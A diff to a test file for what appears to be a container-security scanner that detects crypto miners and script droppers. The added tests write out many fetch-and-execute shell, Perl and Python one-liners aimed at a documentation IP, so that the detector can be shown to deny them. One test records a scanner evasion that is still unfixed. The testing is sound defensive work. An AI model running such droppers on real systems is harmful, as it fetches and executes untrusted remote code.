@@ -12,11 +12,13 @@ import { compilePackageIndex, describeInstall } from '../../src/detect/malicious
 import { mayBeMinerConfig, minerConfigSigns, readMinerConfig } from '../../src/detect/miner-config.ts'
 import { compileGrammar, compileUngatedGrammar, envCommandLine } from '../../src/detect/miner-grammar.ts'
 import { readInstalls } from '../../src/detect/package-installs.ts'
+import { compileSignalScanner, type Signal } from '../../src/detect/signals.ts'
 import { evaluate } from '../../src/engine/evaluate.ts'
 import { loadIntel } from '../../src/intel/load.ts'
 import type { InstallerEntry } from '../../src/intel/types.ts'
 import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
 import { defaultPolicies } from '../helpers/server.ts'
+import { defaultSignalData } from '../helpers/signal-data.ts'
 
 const W = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
 const SEED = 20261202
@@ -437,4 +439,63 @@ t.test('quotes and backslashes the shell removes inside a word do not hide a min
     t.same(findGated(textsOf(container)), findUngated(textsOf(container)), script)
     t.equal(verdicts(container, 'miner-signals')[0]?.action, 'deny', script, { todo })
   }
+})
+
+const signalLists = await defaultSignalData()
+const gatedScanner = compileSignalScanner(signalLists)
+const ungatedScanner = compileSignalScanner(signalLists, { ungated: true })
+
+function scannerSays(scan: typeof gatedScanner, container: Partial<V1Container>): Signal[] {
+  const found: Signal[] = []
+  scan(textsOf(container), found)
+  return found
+}
+
+t.test(
+  "the scanner's dropper gates: a dropper cannot be written without a pipe, a parenthesis, a backtick, a temporary directory or an executing word",
+  async (t) => {
+    const refusedAsDropper = (t: Test, script: string) => {
+      const container = { command: ['sh', '-c', script] }
+      const name = JSON.stringify(script)
+      const gated = scannerSays(gatedScanner, container)
+      t.same(gated, scannerSays(ungatedScanner, container), name)
+      t.ok(
+        gated.some((signal) => /to-shell|to-tmp|from-tmp/.test(signal.kind)),
+        name,
+      )
+      t.not(verdicts(container, 'miner-signals')[0]?.action, undefined, name)
+    }
+    const url = 'http://203.0.113.9/x'
+    for (const script of [
+      // Pipes: spaced, tight, through sudo and busybox, into an interpreter by path.
+      `curl -fsSL ${url}|sh`,
+      `wget -qO- ${url} | sudo /bin/bash`,
+      `curl -s ${url} | busybox sh`,
+      // Temporary directories in any spelling the patterns take, with no pipe at all.
+      `curl -o /var/tmp/.x ${url} && chmod +x /var/tmp/.x && /var/tmp/.x`,
+      `wget -O /dev/shm/k ${url}; chmod 755 /dev/shm/k; /dev/shm/k`,
+      `curl ${url} > /TMP/K; chmod +x /TMP/K`,
+      // A non-ASCII character keeps the lower-cased copy away: the any-case gates answer.
+      `curl -o /Tmp/\u00e9 ${url}; chmod +x /Tmp/\u00e9 # \u{1f600}`,
+      // Substitutions and sourcing: parentheses and backticks, no pipe.
+      `sh -c "$(curl -fsSL ${url})"`,
+      `bash -c \`wget -qO- ${url}\``,
+      `. <(curl -s ${url})`,
+      `eval "$(echo Y3VybCB4 | base64 -d)"`,
+      // One-liners that execute without a parenthesis: eval, os.system, subprocess.
+      `perl -e 'use LWP::Simple; eval get("${url}")'`,
+      `python3 -c "import os,urllib.request as u; os.system(u.urlopen('${url}').read())"`,
+      `OS.SYSTEM(requests.get('${url}').text)`,
+    ]) {
+      refusedAsDropper(t, script)
+    }
+  },
+)
+
+t.test('a Perl one-liner that loads LWP with -M and evals what it gets is a dropper', async (t) => {
+  const container = { command: ['perl', '-MLWP::Simple', '-e', 'eval get "http://203.0.113.9/x"'] }
+  // The gate is not the cause: the ungated scanner misses it too (`\bLWP::` needs a word start, and -M stands before it).
+  t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container))
+  const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
+  t.ok(kinds.includes('download-to-shell'), JSON.stringify(kinds), { todo: 'evasion found, see report: FETCHES in src/detect/script-droppers.ts' })
 })
